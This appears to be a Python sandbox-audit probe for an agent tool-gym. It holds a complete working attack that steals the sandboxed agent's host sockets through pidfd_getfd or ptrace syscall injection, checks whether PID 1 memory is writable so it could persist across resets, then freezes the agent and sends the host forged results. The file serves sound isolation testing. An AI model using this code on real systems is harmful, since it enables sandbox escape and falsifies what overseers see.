"""An attack on the in-sandbox agent, run as a Python tool cell would run it.

Never imported inside a sandbox as a module: ``probe_cell()`` returns this file's text as a cell
(stdlib only), used by ``toolgym sandbox audit`` and by the test suite. The cell forks a detached
process that tries to obtain the agent's channel to the host by two routes:

1. ``pidfd_getfd(pidfd_open(agent), fd)`` for each of the agent's sockets;
2. ``ptrace``-attach to the agent and inject ``mmap``, ``socket``, ``connect``, ``sendmsg``
   (``SCM_RIGHTS``) so that the agent itself hands its sockets over (x86_64 only).

It also tries to open PID 1's memory for writing (an init that every reset spares and that is
outside the agent's seccomp filter would be a foothold across episodes).

It reports each route's outcome to the cell (which prints it as JSON), waits until the host is
idle, stops the agent and answers the host itself: clean resets, pings, and ``FORGED`` as the
output of every command and cell. A sandbox that resists returns its own results afterwards.
"""

from __future__ import annotations

import json
import os
import pathlib
import select
import signal
import socket
import struct
import time
from typing import Any

FORGED = "FORGED-BY-AN-EARLIER-EPISODE"


def _agent_pid() -> int | None:
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            try:
                cmd = pathlib.Path(f"/proc/{name}/cmdline").read_bytes()
            except OSError:
                continue
            args = cmd.split(b"\0")
            agent_file = any(
                a.startswith(b"/opt/toolgym/") and a.endswith(b"/main.py") for a in args
            )  # remote: /opt/toolgym/a/
            if "python" in os.path.basename(args[0].decode()) and agent_file:
                return int(name)
    return None


def _socket_fds(pid: int) -> list[int]:
    try:
        fds = sorted(int(f) for f in os.listdir(f"/proc/{pid}/fd"))
        return [f for f in fds if os.readlink(f"/proc/{pid}/fd/{f}").startswith("socket:")]
    except OSError:
        return list(range(3, 12))  # cannot list them: guess the low numbers


def _channel(socks: list[socket.socket]) -> socket.socket | None:
    """The socket connected to the host's listener (its peer is the host's ``h.sock``)."""
    for s in socks:
        try:
            peer = s.getpeername()
        except OSError:
            continue
        if isinstance(peer, (str, bytes)) and str(peer).rstrip("'").endswith("h.sock"):
            return s
    return None


def via_pidfd(pid: int) -> tuple[socket.socket | None, str]:
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    try:
        pidfd = os.pidfd_open(pid)
    except OSError as exc:
        return None, f"pidfd_open: {exc.strerror}"
    got, errors = [], set()
    for target in _socket_fds(pid):
        fd = libc.syscall(438, pidfd, target, 0)  # pidfd_getfd
        if fd < 0:
            errors.add(os.strerror(ctypes.get_errno()))
            continue
        try:
            got.append(socket.socket(fileno=fd))
        except OSError:
            os.close(fd)
    os.close(pidfd)
    chan = _channel(got)
    return chan, (
        "got the channel" if chan else f"pidfd_getfd: {sorted(errors) or 'no channel among the fds'}"
    )


def via_ptrace(pid: int) -> tuple[socket.socket | None, str]:
    import ctypes
    import platform

    if platform.machine() != "x86_64":
        return None, "ptrace injection written for x86_64 only"
    names = (
        "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss "
        "fs_base gs_base ds es fs gs"
    ).split()

    class Regs(ctypes.Structure):
        _fields_ = [(n, ctypes.c_ulonglong) for n in names]

    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    libc.ptrace.restype = ctypes.c_long
    fds = _socket_fds(pid)
    name = b"\0tg-hijack-%d" % os.getpid()
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    srv.bind(name)
    srv.listen(1)
    if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
        return None, f"ptrace: {os.strerror(ctypes.get_errno())}"
    try:
        os.waitpid(pid, 0x40000000)  # __WALL
        saved = Regs()
        libc.ptrace(12, pid, None, ctypes.byref(saved))  # PTRACE_GETREGS
        mem = open(f"/proc/{pid}/mem", "r+b", buffering=0)
        mem.seek(saved.rip - 2)
        if mem.read(2) != b"\x0f\x05":
            return None, "ptrace: attached, but the agent was not stopped in a system call"

        def inject(nr: int, *args: int) -> int:
            regs = Regs.from_buffer_copy(saved)
            regs.rax, regs.orig_rax, regs.rip = nr, (1 << 64) - 1, saved.rip - 2
            for reg, value in zip(("rdi", "rsi", "rdx", "r10", "r8", "r9"), args, strict=False):
                setattr(regs, reg, value & ((1 << 64) - 1))
            libc.ptrace(13, pid, None, ctypes.byref(regs))  # PTRACE_SETREGS
            libc.ptrace(9, pid, None, None)  # PTRACE_SINGLESTEP
            os.waitpid(pid, 0x40000000)
            libc.ptrace(12, pid, None, ctypes.byref(regs))
            return ctypes.c_longlong(regs.rax).value

        page = inject(9, 0, 4096, 3, 0x22, -1, 0)  # mmap(RW, private|anonymous)
        if page < 0:
            return None, f"ptrace: injected mmap failed ({page})"
        addr = struct.pack("=H", socket.AF_UNIX) + name
        cmsg = struct.pack("=QII", 16 + 4 * len(fds), socket.SOL_SOCKET, socket.SCM_RIGHTS) + struct.pack(
            f"={len(fds)}i", *fds
        )
        cmsg += b"\0" * (-len(cmsg) % 8)
        iov = struct.pack("=QQ", page + 600, 1)
        msghdr = struct.pack("=QI4xQQQQi4x", 0, 0, page + 512, 1, page + 700, len(cmsg), 0)
        for offset, data in ((0, addr), (256, msghdr), (512, iov), (600, b"x"), (700, cmsg)):
            mem.seek(page + offset)
            mem.write(data)
        sock = inject(41, socket.AF_UNIX, socket.SOCK_STREAM, 0)
        results = [inject(42, sock, page, len(addr)), inject(46, sock, page + 256, 0)]
        inject(3, sock)
        inject(11, page, 4096)
        libc.ptrace(13, pid, None, ctypes.byref(saved))
    finally:
        libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
    if any(r < 0 for r in results):
        return None, f"ptrace: injected connect/sendmsg failed {results}"
    conn, _ = srv.accept()
    _, got, _, _ = socket.recv_fds(conn, 1, len(fds))
    chan = _channel([socket.socket(fileno=fd) for fd in got])
    return chan, ("got the channel" if chan else "ptrace: the agent's sockets held no channel")


def _forge(req: dict[str, Any], agent: int) -> dict[str, Any]:
    op, base = req.get("op"), {"ok": True, "id": req.get("id")}
    if op == "ping":
        return {**base, "pid": agent, "uptime": 1.0}
    if op in ("reset", "stats"):
        return {
            **base,
            "processes": 0,
            "disk": {},
            "memory_bytes": None,
            "memory_limit_bytes": None,
            "pids": None,
            "pids_limit": None,
            "oom_kills": None,
        }
    common = {
        "stdout": FORGED + "\n",
        "stderr": "",
        "timed_out": False,
        "truncated": False,
        "duration": 0.01,
        "oom_killed": False,
        "restarted": False,
    }
    if op == "py_exec":
        return {**base, **common, "value": None, "error": None, "traceback": None}
    if op in ("run", "sh_run"):
        return {**base, **common, "exit_code": 0, "signal": None}
    if op == "read_file":
        return {**base, "data_b64": ""}
    return base


def _serve_forged(chan: socket.socket, agent: int) -> None:
    os.kill(agent, signal.SIGSTOP)
    buf = b""
    while True:
        data = chan.recv(1 << 16)
        if not data:
            return
        buf += data
        while len(buf) >= 4:
            (length,) = struct.unpack(">I", buf[:4])
            if len(buf) < 4 + length:
                break
            req, buf = json.loads(buf[4 : 4 + length]), buf[4 + length :]
            body = json.dumps(_forge(req, agent)).encode()
            chan.sendall(struct.pack(">I", len(body)) + body)


def attack(report_fd: int) -> None:
    agent = _agent_pid()
    outcome: dict[str, Any] = {"agent": agent}
    chan = None
    if agent is not None:
        for route, fn in (("pidfd_getfd", via_pidfd), ("ptrace", via_ptrace)):
            try:
                got, why = fn(agent)
            except Exception as exc:  # a route that breaks is a route that failed
                got, why = None, f"{type(exc).__name__}: {exc}"
            outcome[route] = why
            chan = chan or got
    try:  # write access to PID 1's memory is code execution in a process every reset spares
        open("/proc/1/mem", "r+b", buffering=0).close()
        outcome["init_mem"] = "writable"
    except OSError as exc:
        outcome["init_mem"] = exc.strerror
    outcome["hijacked"] = chan is not None
    os.write(report_fd, json.dumps(outcome).encode())
    os.close(report_fd)
    if chan is not None:
        time.sleep(1.5)  # let the cell's reply reach the host first
        _serve_forged(chan, agent)  # type: ignore[arg-type]
    else:
        time.sleep(600)  # a leftover: the reset must end it


def run_in_cell() -> None:
    """What the cell does: fork the detached attacker, print its report."""
    r, w = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.close(r)
            try:
                attack(w)
            finally:
                os._exit(0)
        os._exit(0)
    os.close(w)
    select.select([r], [], [], 30)
    print(os.read(r, 1 << 16).decode())


def probe_cell() -> str:
    """The Python cell that runs this attack inside a sandbox."""
    return pathlib.Path(__file__).read_text() + "\nrun_in_cell()\n"
